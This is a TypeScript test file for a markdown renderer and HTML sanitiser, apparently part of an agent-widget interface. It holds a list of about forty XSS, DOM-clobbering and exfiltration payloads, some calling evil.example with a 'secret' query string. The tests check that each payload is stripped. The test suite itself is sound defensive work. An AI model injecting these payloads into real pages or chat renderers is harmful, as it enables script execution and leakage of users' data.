import { expect, test } from "vitest";
import { lex, renderBlock, sanitise } from "../src/markdown";
import { h } from "../src/view/dom";

function rendered(markdown: string): HTMLElement {
  const root = h("div");
  for (const token of lex(markdown, {})) {
    root.append(renderBlock(token, true));
  }
  return root;
}

const ATTACKS: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)><circle/></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](vbscript:x)",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](file:///etc/passwd)",
  "<a href='java&#9;script:alert(1)'>x</a>",
  "<a href='blob:https://x/y'>x</a>",
  "![x](https://evil.example/?q=secret)",
  "![x](//evil.example/a.png)",
  "![x](relative.png)",
  "![x](data:text/html;base64,PHNjcmlwdD4=)",
  "<img src='data:image/png;base64,AAAA' srcset='https://evil.example/a.png 2x'>",
  "<picture><source srcset='https://evil.example/a.png'><img src='https://evil.example/b.png'></picture>",
  "<video src='https://evil.example/a.mp4' poster='https://evil.example/a.png' autoplay></video>",
  "<audio src='https://evil.example/a.mp3'></audio>",
  "<link rel=stylesheet href='https://evil.example/a.css'>",
  "<style>@import 'https://evil.example/a.css'; body { display: none }</style>",
  "<p style='position:fixed;inset:0;background:url(https://evil.example/a.png)'>x</p>",
  "<table background='https://evil.example/a.png'><tr><td>x</td></tr></table>",
  "<iframe src='https://evil.example'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='https://evil.example/a.swf'></object><embed src='https://evil.example/a.swf'>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action='https://evil.example'><input name=q><button>Send</button></form>",
  "<input type=image src='https://evil.example/a.png'>",
  "<button onclick=alert(1)>Approve</button>",
  "<a id=require name=require>x</a><div id='__agentWidgets'>x</div>",
  "<div class='jp-Dialog aw-decision'>x</div>",
  "<details ontoggle=alert(1) open><summary>x</summary></details>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><script>alert(1)</script></template>",
  "<x-foo onclick=alert(1)>x</x-foo>",
  "```html\n<script>alert(1)</script>\n```",
];
const ALLOWED =
  /^(a|b|blockquote|br|caption|code|dd|del|details|div|dl|dt|em|h[1-6]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|samp|small|span|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|u|ul|var|button)$/;

function check(root: ParentNode): void {
  for (const element of root.querySelectorAll("*")) {
    expect(element.localName).toMatch(ALLOWED);
    expect(element.localName === "button" ? element.className : "").toMatch(/^(aw-copy)?$/);
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^(on|style$|id$|name$|srcset$|poster$|background$|action$|formaction$|srcdoc$)/);
      if (name === "src") {
        expect(value).toMatch(/^data:image\//);
      }
      if (name === "href") {
        expect(value).toMatch(/^(https?:|mailto:|#)/i);
      }
      if (name === "class") {
        expect(value).toMatch(/^(aw-(scroll|code|code-bar|copy|t-\w+)|language-\w+|dataframe)$/);
      }
    }
  }
}

test.each(ATTACKS)("%s does nothing", (attack) => {
  check(rendered(attack));
  check(sanitise(attack));
  check(rendered(`> ${attack}\n\n- ${attack}\n\n| a |\n|---|\n| ${attack} |`));
});

test("a remote image is loaded only where a person has said so, once its block is whole, and never from elsewhere than https", () => {
  const images = (text: string, done: boolean, remoteImages: boolean): string[] => {
    const root = document.createElement("div");
    for (const token of lex(text, {})) {
      root.append(renderBlock(token, done, remoteImages));
    }
    return [...root.querySelectorAll("img[src]")].map((image) => `${image.getAttribute("src")} ${image.getAttribute("referrerpolicy")}`);
  };
  const text = "![cat](https://example.org/cat.png)";
  expect(images(text, true, true)).toEqual(["https://example.org/cat.png no-referrer"]);
  expect(images(text, true, false)).toEqual([]);
  expect(images(text, false, true)).toEqual([]);
  for (const address of ["http://example.org/cat.png", "//example.org/cat.png", "file:///etc/passwd", "javascript:alert(1)"]) {
    expect(images(`![cat](${address})`, true, true)).toEqual([]);
  }
});

test("a remote image becomes its address", () => {
  const link = rendered("![a chart](https://evil.example/x.png?q=1)").querySelector("a");
  expect(link?.textContent).toBe("a chart: https://evil.example/x.png?q=1");
  expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
});

test("an image in the text itself is shown", () => {
  expect(rendered("![dot](data:image/png;base64,iVBORw0KGgo=)").querySelector("img")?.getAttribute("alt")).toBe("dot");
});

test("links open elsewhere and give nothing away; a link within the page stays", () => {
  const [out, within] = rendered("[a](https://example.org/) [b](#top)").querySelectorAll("a");
  expect([out?.target, out?.rel, out?.title]).toEqual(["_blank", "noopener noreferrer", "https://example.org/"]);
  expect(within?.target).toBe("");
});

test("code is coloured, has a copy button, and its text is what was written", () => {
  const root = rendered("```python\nprint('<b>')  # hi\n```");
  expect(root.querySelector("code")?.textContent).toBe("print('<b>')  # hi");
  expect(root.querySelector(".aw-t-str")?.textContent).toBe("'<b>'");
  expect(root.querySelector("button.aw-copy")).not.toBeNull();
});

test("a table of pandas keeps its class and scrolls in a box of its own", () => {
  const html = '<div><style scoped>td {color: red}</style><table border="1" class="dataframe jp-x"><tr><td>1</td></tr></table></div>';
  const root = sanitise(html);
  expect(root.querySelector(".aw-scroll > table")?.className).toBe("dataframe");
  expect(root.textContent).toBe("1");
});

test("tasks are marks, not inputs", () => {
  const root = rendered("- [x] done\n- [ ] open");
  expect(root.querySelector("input")).toBeNull();
  expect(root.textContent).toContain("☑ done");
});

test("the page's globals are untouched", () => {
  const before = Object.keys(globalThis);
  rendered(ATTACKS.join("\n\n"));
  expect(Object.keys(globalThis)).toEqual(before);
});

test("a list that begins with 3 does, and a column stands where its table says", () => {
  expect(rendered("3. three\n4. four").querySelector("ol")?.start).toBe(3);
  expect(rendered("| a | b |\n|---|--:|\n| 1 | 2 |").querySelector("td + td")?.getAttribute("align")).toBe("right");
  expect(sanitise("<table><tr><td colspan=2 rowspan=3>x</td></tr></table>").querySelector("td")?.outerHTML).toContain('colspan="2"');
});
